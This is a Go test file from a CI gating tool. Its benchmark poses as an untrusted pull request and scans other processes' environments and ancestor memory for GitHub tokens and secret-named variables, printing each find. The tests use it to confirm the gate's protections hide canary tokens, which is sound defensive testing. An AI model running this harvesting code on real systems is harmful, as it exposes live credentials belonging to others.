// Package attack is a pull request's benchmark that tries to steal the gate's credentials, as
// untrusted code would: it reads the environment of every process it may (/proc/*/environ,
// which keeps each one's environment as it was at exec) and the memory of each of its
// ancestors (/proc/<pid>/mem), and looks for anything that looks like a token. Each find is
// printed as a "stolen:" line, and their number is the benchmark's stolen metric. The tests of
// gate's protections run it and require that it finds none of their canaries.
package attack

import (
	"bufio"
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
)

// token is what GitHub's tokens look like (ghs_ installation tokens such as GITHUB_TOKEN, ghp_
// and github_pat_ personal ones), and the tests' canaries too.
var token = regexp.MustCompile(`(ghs|ghp|gho|ghu|ghr)_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{40,}`)

var (
	once   sync.Once
	stolen []string
)

func BenchmarkSteal(b *testing.B) {
	once.Do(func() { stolen = steal() })
	for _, s := range stolen {
		fmt.Println("stolen:", s)
	}
	for b.Loop() {
	}
	b.ReportMetric(float64(len(stolen)), "stolen")
}

func steal() []string {
	seen := map[string]bool{}
	var out []string
	add := func(where, what string) {
		if !seen[where+what] {
			seen[where+what] = true
			out = append(out, where+" "+what)
		}
	}
	pids, _ := filepath.Glob("/proc/[0-9]*")
	for _, dir := range pids {
		env, err := os.ReadFile(filepath.Join(dir, "environ"))
		if err != nil {
			continue
		}
		for _, kv := range bytes.Split(env, []byte{0}) {
			name, value, _ := strings.Cut(string(kv), "=")
			if value != "" && (looksSecret(name) || token.MatchString(value)) {
				add(fmt.Sprintf("%s/environ(%s)", dir, comm(dir)), string(kv))
			}
		}
	}
	for _, pid := range ancestors() {
		for _, m := range memoryTokens(pid) {
			dir := fmt.Sprintf("/proc/%d", pid)
			add(fmt.Sprintf("%s/mem(%s)", dir, comm(dir)), m)
		}
	}
	return out
}

// comm names the process whose /proc directory dir is.
func comm(dir string) string {
	name, _ := os.ReadFile(filepath.Join(dir, "comm"))
	return strings.TrimSpace(string(name))
}

func looksSecret(name string) bool {
	n := strings.ToUpper(name)
	return strings.Contains(n, "TOKEN") || strings.Contains(n, "SECRET") || strings.Contains(n, "PASSWORD")
}

// ancestors are this process's parent, its parent's parent and the one above that (gate, and
// the shell or the runner that started it).
func ancestors() []int {
	var out []int
	for pid := os.Getppid(); pid > 1 && len(out) < 3; { // gate, and what started it
		out = append(out, pid)
		status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
		if err != nil {
			break
		}
		next := 0
		for _, line := range strings.Split(string(status), "\n") {
			if v, ok := strings.CutPrefix(line, "PPid:"); ok {
				next, _ = strconv.Atoi(strings.TrimSpace(v))
			}
		}
		pid = next
	}
	return out
}

// memoryTokens reads the writable memory of process pid, as far as it may, and returns the
// tokens in it.
func memoryTokens(pid int) []string {
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return nil
	}
	defer mem.Close()
	maps, err := os.Open(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return nil
	}
	defer maps.Close()
	var found []string
	budget := int64(64 << 20) // gate's heap is a few MiB
	sc := bufio.NewScanner(maps)
	for sc.Scan() {
		f := strings.Fields(sc.Text())
		if len(f) < 2 || !strings.HasPrefix(f[1], "rw") {
			continue
		}
		lo, hi, _ := strings.Cut(f[0], "-")
		start, err1 := strconv.ParseUint(lo, 16, 64)
		end, err2 := strconv.ParseUint(hi, 16, 64)
		if err1 != nil || err2 != nil || end <= start {
			continue
		}
		size := min(int64(end-start), budget)
		budget -= size
		buf := make([]byte, size)
		n, _ := mem.ReadAt(buf, int64(start))
		for _, m := range token.FindAll(buf[:n], -1) {
			found = append(found, string(m))
		}
		if budget <= 0 {
			break
		}
	}
	return found
}
